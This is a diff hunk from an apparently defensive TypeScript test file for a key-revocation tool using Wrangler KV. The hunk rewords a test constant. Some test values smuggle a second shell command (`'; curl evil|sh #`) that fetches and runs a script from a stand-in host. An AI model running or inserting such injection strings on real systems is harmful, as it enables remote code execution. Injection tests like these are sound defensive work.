@@ -214,7 +214,7 @@ test('revoke finds no key of another environment, and none without a record', as
 
 const HASH = nameOf('x');
 const DELETE = `npx wrangler kv key delete ${HASH} --binding API_KEYS --remote --env staging`;
-const ODD_NAME = "delete this record in the dashboard: key:x'; curl evil|sh #\uFFFD";
+const ODD_NAME = "delete this record, whose name is invalid: key:x'; curl evil|sh #\uFFFD";
 test.each<[title: string, change: object, name?: string, error?: string]>([
   ['no label', { label: undefined }],
   ['an id for a shell', { id: 'x; curl evil|sh #' }],
